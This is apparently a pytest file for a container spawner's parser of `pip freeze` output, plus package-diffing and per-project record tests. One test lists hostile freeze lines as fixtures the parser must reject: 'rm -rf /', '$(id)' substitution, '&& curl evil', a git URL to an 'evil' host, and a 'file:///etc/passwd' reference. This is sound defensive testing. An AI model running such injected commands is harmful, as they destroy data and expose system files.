"""Reading `pip list --format=freeze` from a user's container: strictly, as hostile input."""

from ds01_spawner.installed import InstalledRecords, added_in_container, parse_freeze


def test_freeze_lines_become_canonical_names_and_versions():
    text = "transformers==4.46.0\nPEFT==0.13.2\nscikit_learn==1.5.2\n"
    assert parse_freeze(text) == {
        "transformers": "4.46.0",
        "peft": "0.13.2",
        "scikit-learn": "1.5.2",
    }


def test_hostile_freeze_output_is_dropped_line_by_line():
    text = "\n".join(
        [
            "ok==1.0",
            "evil; rm -rf /==1.0",
            "$(id)==1",
            "`id`==1",
            "x==1.0 && curl evil",
            "-e git+https://evil/x#egg=x",
            "pkg @ file:///etc/passwd",
            "name==1.0\nRUN rm -rf /",
            "a" * 5000 + "==1",
            "ünï==1.0",
        ]
    )
    assert parse_freeze(text) == {"ok": "1.0", "name": "1.0"}


def test_ten_thousand_lines_are_bounded():
    text = "\n".join(f"pkg{i}==1.0" for i in range(10_000))
    parsed = parse_freeze(text)
    assert 0 < len(parsed) <= 5000


def test_added_means_new_or_other_version():
    image = {"numpy": "2.0.0", "pandas": "2.2.0"}
    container = {"numpy": "2.0.0", "pandas": "2.2.3", "peft": "0.13.2"}
    assert added_in_container(container, image) == ["pandas==2.2.3", "peft==0.13.2"]
    assert added_in_container(image, image) == []


def test_records_per_project_and_per_image(tmp_path):
    records = InstalledRecords(tmp_path)
    records.save_image_packages("sha256:abc", {"numpy": "2.0.0"})
    assert records.image_packages("sha256:abc") == {"numpy": "2.0.0"}
    assert records.image_packages("sha256:other") is None

    records.record_session("alice", "thesis", "sha256:abc", ["peft==0.13.2", "trl==0.9.0"])
    assert records.last_session("alice", "thesis")["packages"] == ["peft==0.13.2", "trl==0.9.0"]
    assert records.last_session("bob", "thesis") is None
    records.forget("alice", "thesis", ["PEFT"])
    assert records.last_session("alice", "thesis")["packages"] == ["trl==0.9.0"]
    records.record_session("alice", "thesis", "sha256:abc", [])  # a clean session clears it
    assert records.last_session("alice", "thesis") is None
